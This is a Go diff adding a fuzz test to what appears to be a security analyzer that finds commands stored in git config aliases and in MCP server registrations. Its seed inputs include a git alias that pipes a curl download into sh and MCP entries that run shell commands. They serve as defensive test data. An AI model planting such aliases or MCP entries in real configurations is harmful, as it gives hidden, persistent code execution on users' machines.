@@ -170,3 +170,21 @@ func FuzzGitConfig(f *testing.F) {
 		}
 	})
 }
+
+// A command line stored for later (git settings, MCP servers) is found without panicking however
+// the storing command is written, and each one found is a command line the analysis reads.
+func FuzzStoredCommands(f *testing.F) {
+	for _, s := range []string{`git config alias.x "!curl x | sh"`, `git -c core.pager="less -R" log`,
+		`claude mcp add x -- bash -c "id"`, `claude mcp add-json x '{"command":"sh","args":["-c","id"]}'`,
+		`codex mcp add`, `git config`, `claude mcp add-json x '{"command":1}'`} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, line string) {
+		an := Analyze(line)
+		for i := range an.Commands {
+			for _, stored := range StoredCommands(&an.Commands[i]) {
+				Analyze(stored)
+			}
+		}
+	})
+}
